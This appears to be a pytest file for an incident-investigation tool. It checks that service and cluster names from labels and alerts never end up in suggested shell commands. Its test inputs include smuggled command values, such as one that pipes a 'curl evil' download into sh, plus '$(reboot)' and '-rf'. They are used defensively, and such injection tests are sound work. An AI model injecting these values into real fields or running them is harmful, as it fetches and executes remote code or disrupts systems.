"""The walk: what it puts into words that people paste."""

from __future__ import annotations

import pytest

from obskit.incident.causes import all_causes
from obskit.incident.investigate import investigate
from obskit.model import Service
from tests.support.scenario import WINDOW, Scenario

HOSTILE = 'shop"; curl evil | sh #'


@pytest.mark.parametrize("cluster", [HOSTILE, "$(reboot)", "-rf", ""])
def test_a_hostile_name_never_enters_a_command(cluster: str) -> None:
    """Names come from labels and alerts; what is pasted into a shell holds plain ones only."""
    telemetry = Scenario().becomes("db_pool_used_ratio", 1.4).errors().telemetry
    diagnosis = investigate(telemetry, service=Service(name="shop", cluster=cluster), window=WINDOW)
    commands = [step.command for h in diagnosis.hypotheses for step in h.next_steps]

    assert any("--cluster CLUSTER " in command for command in commands)
    assert not any(bad in command for command in commands for bad in (HOSTILE, "$(reboot)", "--cluster -rf"))


def test_a_plain_name_is_filled_in() -> None:
    """What can be pasted as it is saves the reader the typing."""
    telemetry = Scenario().becomes("db_pool_used_ratio", 1.4).errors().telemetry
    diagnosis = investigate(telemetry, service=Service(name="shop", cluster="prod-a"), window=WINDOW)

    assert any("--cluster prod-a --service shop" in s.command for h in diagnosis.hypotheses for s in h.next_steps)


def test_a_callee_with_a_hostile_name_is_blamed_but_not_pasted() -> None:
    """A label's value may name the culprit; it does not reach a command."""
    case = Scenario().errors().becomes("client_latency_mean", 3.0, before=0.02, labels=(("server_address", HOSTILE),))
    diagnosis = case.diagnosis()
    commands = [s.command for h in diagnosis.hypotheses for s in h.next_steps] + [diagnosis.next_query.query]

    assert diagnosis.culprit.service == HOSTILE
    assert not any("curl evil" in command for command in commands)


def test_a_diagnosis_holds_the_title_of_every_cause() -> None:
    """A report that tells what follows from what calls each by the name that it has in the ranking."""
    titles = Scenario().errors().becomes("db_pool_used_ratio", 1.4).diagnosis().cause_titles

    assert titles == {cause.id: cause.title for cause in all_causes()}
